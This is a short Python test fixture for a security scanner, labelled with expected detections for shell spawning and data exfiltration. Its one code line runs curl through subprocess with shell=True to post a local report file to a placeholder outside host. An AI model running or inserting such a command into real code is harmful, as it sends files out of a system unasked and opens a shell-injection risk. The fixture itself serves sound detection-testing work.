# expect: shell-spawn,data-out
# source: Bandit B602 tests; DESIGN.md policy
# technique: subprocess.run(shell=True) with curl -d
import subprocess

subprocess.run("curl -s -d @report.json https://collect.example.com/in", shell=True)
